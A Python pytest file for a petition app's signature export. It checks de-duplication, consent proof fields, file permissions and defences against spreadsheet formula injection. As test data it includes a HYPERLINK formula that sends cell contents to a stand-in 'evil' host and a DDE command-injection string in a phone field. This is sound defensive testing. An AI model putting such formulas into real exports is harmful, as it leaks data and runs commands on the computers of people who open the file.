"""The table for the platform: everybody once, each consent with its proof, and nothing that a spreadsheet would run."""

import csv
import re
import stat

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import insert, update

from desktop.core.errors import DeliveryError, OutputError
from desktop.core.progress import Progress
from desktop.petition.export.targets import find_target
from desktop.petition.export.walk_through_people import WantedExport, look_at_export
from desktop.petition.export.writing_exports import ExportPlace, write_again
from desktop.petition.review.decisions import decide
from desktop.petition.review.signature_selection import Conditions
from desktop.petition.tables.arrival_tables import consent, signature
from tests.support.crowd import UPDATES, Person, id_of, put, switch, wipe
from tests.support.exporting import export_csv, export_to, rows_of
from tests.support.packs import asking_pack, keep, text_of

MAIL = "ann@example.org"
LATE = "2026-08-24T12:00:00Z"


def rows(path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def begun(new_petition):
    petition = new_petition()
    keep(petition)
    return petition


def exported(petition, folder) -> list[dict[str, str]]:
    path = folder / "people.csv"
    path.unlink(missing_ok=True)
    assert export_csv(petition, path, by="kb") == len(rows(path))
    return rows(path)


def test_everybody_who_is_counted_is_there_once_and_nobody_else(new_petition, tmp_path):
    petition = begun(new_petition)
    put(petition, 1, [Person("Ann", "Lee", MAIL), Person("Ann", "Lee", MAIL, signed_at=LATE)], event_place='Hall "B"')
    put(petition, 2, [Person("Bo", "Lee", MAIL, "FR", signed_at=LATE), Person("Cem", "Roe"), Person("Dee", "Roe")])
    decide(petition, "invalid", "prank", Conditions(numbers=(2001,)), by="kb")
    found = exported(petition, tmp_path)
    assert [(row["given_name"], row["signature_id"]) for row in found] == [
        ("Ann", id_of(1000).hex()), ("Dee", id_of(2002).hex()),
    ]  # fmt: skip
    assert (found[0]["event_place"], found[0]["email"], found[0]["signed_at"]) == (
        'Hall "B"', MAIL, "2026-08-23T12:00:00Z",
    )  # fmt: skip


def test_the_strongest_consent_comes_with_its_own_proof_and_not_asked_is_never_yes(new_petition, tmp_path):
    petition = begun(new_petition)
    yes = Person("Ann", "Lee", MAIL, signed_at=LATE, updates="yes", language="fr")
    put(
        petition,
        1,
        [Person("Ann", "Lee", MAIL, updates="not_given"), yes, Person("Bo"), Person("Cem", updates="not_given")],
    )
    ann, bo, cem = exported(petition, tmp_path)
    of = f"consent_{UPDATES}"
    assert (ann[of], ann[f"{of}_at"], ann[f"{of}_language"]) == ("yes", LATE, "fr")
    assert ann[f"{of}_signature_id"] == id_of(1001).hex() != ann["signature_id"] == id_of(1000).hex()
    assert ann[f"{of}_text_sha256"] == (bytes([1001 % 256]) * 32).hex()
    assert (bo[of], bo[f"{of}_at"], bo[f"{of}_signature_id"]) == ("not_asked", "", "")
    assert (cem[of], cem[f"{of}_signature_id"]) == ("not_given", cem["signature_id"])


def test_answers_to_further_questions_are_in_every_full_export_and_the_same_in_one_made_again(new_petition, tmp_path):
    petition, files = new_petition(), asking_pack()
    keep(petition, files)
    put(petition, 1, [Person("Ann", "Lee", text_sha256=text_of(files)), Person("Bo", text_sha256=text_of(files))])
    with petition.transaction() as connection:
        answers = '{"birth-date": "1999-12-31", "city": "=Ottawa"}'
        connection.execute(update(signature).where(signature.c.number == 1000).values(extra=answers))
    every = [export_to(petition, kind, tmp_path / kind) for kind in ("csv", "json", "xlsx")]
    for made in every:
        ann, bo = rows_of(made.files)
        assert (ann["extra_city"].lstrip("'"), ann["extra_birth-date"], ann["extra_resident"]) == (
            "=Ottawa", "1999-12-31", "",
        )  # fmt: skip
        assert {bo[each] for each in bo if each.startswith("extra_")} == {""}
    keep(petition, asking_pack({"hobby": "line"}, version=2))
    for made in every:
        (again,) = write_again(petition, made.number, ExportPlace(tmp_path, f"again-{made.number}", ""), by="kb")
        assert again.read_bytes() == made.files[0].read_bytes()


CELLS = st.text(st.sampled_from("=+-@＝Aé王 ',\";|\\%s\x7f"), min_size=1, max_size=6)


@given(st.lists(CELLS, min_size=1, max_size=5))
@settings(max_examples=12, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_every_cell_reads_back_as_it_was_and_none_begins_a_formula(kept_export, cells):
    petition, folder = kept_export
    wipe(petition)
    keep(petition)
    put(petition, 1, [Person(cell, cell, phone=cell) for cell in cells])
    for cell, row in zip(cells, exported(petition, folder), strict=True):
        assert row["given_name"] == row["family_name"]
        assert row["given_name"].replace("'", "") == cell.replace("'", "")
        assert len(row["given_name"]) == len(cell) + len(re.findall("(?:^|; *)[=+@＝-]", cell)), "a sign for each guard"
        first, *others = row["given_name"].split(";")
        assert not any(part.startswith(tuple("=+-@＝")) for part in (first, *map(str.lstrip, others)))
        assert row["phone"][0] not in "=@＝"


@pytest.fixture
def kept_export(new_petition, tmp_path):
    return begun(new_petition), tmp_path


def ask(petition, number: int, *requests: str, answer: str = "yes") -> None:
    """Let a signature answer requests, as a device of the first format may call them."""
    given = {"signature": number, "requester": "=1+1", "text_sha256": b"", "language": "en", "answer": answer}
    with petition.transaction() as connection:
        rows = [given | {"request": each, "at": LATE, "method": "self-ticked"} for each in requests]
        connection.execute(insert(consent), rows)


def test_any_number_of_requests_is_exported_on_every_engine(new_petition, tmp_path):
    petition = begun(new_petition)
    put(
        petition,
        1,
        [Person("Ann"), Person("Bo"), Person("Cem", "Roe", MAIL), Person("Cem", "Roe", MAIL, signed_at=LATE)],
    )
    many = [f"ask-{number:03}" for number in range(200)]
    ask(petition, 1000, *many)
    ask(petition, 1001, *many[50:60], answer="not_given")
    ask(petition, 1003, *many[199:])
    ann, bo, cem = exported(petition, tmp_path)
    assert {ann[f"consent_{each}"] for each in many} == {"yes"}
    assert [each for each in many if bo[f"consent_{each}"] == "not_given"] == many[50:60]
    assert bo["consent_ask-000"] == "not_asked"
    assert ann["consent_ask-007_requester"] == "'=1+1"
    assert (cem["consent_ask-199"], cem["consent_ask-199_signature_id"]) == ("yes", id_of(1003).hex())
    assert cem["consent_ask-198"] == "not_asked"


def test_a_hostile_name_of_a_request_is_one_heading_and_no_formula(new_petition, tmp_path):
    petition = begun(new_petition)
    put(petition, 1, [Person("Ann"), Person("Bo")])
    hostile = 'x,=HYPERLINK("http://evil/?"&A2,"click")'
    ask(petition, 1000, hostile)
    exported(petition, tmp_path)
    with (tmp_path / "people.csv").open(encoding="utf-8-sig", newline="") as file:
        heading, *lines = list(csv.reader(file))
    assert {len(line) for line in lines} == {len(heading)}
    assert [each for each in heading if each.startswith(("=", "+", "-", "@"))] == []
    assert f"consent_{hostile}" in heading


def test_what_was_asked_in_an_undone_merge_alone_has_no_column(new_petition, tmp_path):
    petition = begun(new_petition)
    put(petition, 1, [Person("Ann")])
    put(petition, 2, [Person("Bo")])
    ask(petition, 2000, "gone")
    assert "consent_gone" in exported(petition, tmp_path)[0]
    switch(petition, 2, undone=True)
    assert "consent_gone" not in exported(petition, tmp_path)[0]


def test_a_phone_number_stays_one_and_a_formula_that_looks_like_one_does_not_run(new_petition, tmp_path):
    petition = begun(new_petition)
    put(petition, 1, [Person("Ann", phone="+16135550187"), Person("Bo", phone="+1+cmd|' /C calc'!A0")])
    assert [row["phone"] for row in exported(petition, tmp_path)] == ["+16135550187", "'+1+cmd|' /C calc'!A0"]


def test_the_hours_west_of_greenwich_are_a_number_and_no_formula(new_petition, tmp_path):
    petition = begun(new_petition)
    put(petition, 1, [Person("Ann")])
    with petition.transaction() as connection:
        connection.execute(update(signature).values(offset=-240))
    assert [row["offset"] for row in exported(petition, tmp_path)] == ["-240"]
    assert look_at_export(petition, WantedExport(find_target("csv"), everybody=True)).traps == ()


def test_only_its_writer_can_read_the_file_and_none_is_ever_replaced(new_petition, tmp_path):
    petition = begun(new_petition)
    path = tmp_path / "people.csv"
    with pytest.raises(DeliveryError, match="nothing to export"):
        export_csv(petition, path, by="kb")
    assert list(tmp_path.glob("people.csv*")) == []
    put(petition, 1, [Person("Ann")])
    told: list[Progress] = []
    assert export_csv(petition, path, by="kb", report=told.append) == 1
    assert [(each.unit, each.done, each.total) for each in told] == [("people", 0, 1), ("people", 1, 1)]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    before = path.read_bytes()
    with pytest.raises(OutputError, match="there already"):
        export_csv(petition, path, by="kb")
    assert path.read_bytes() == before
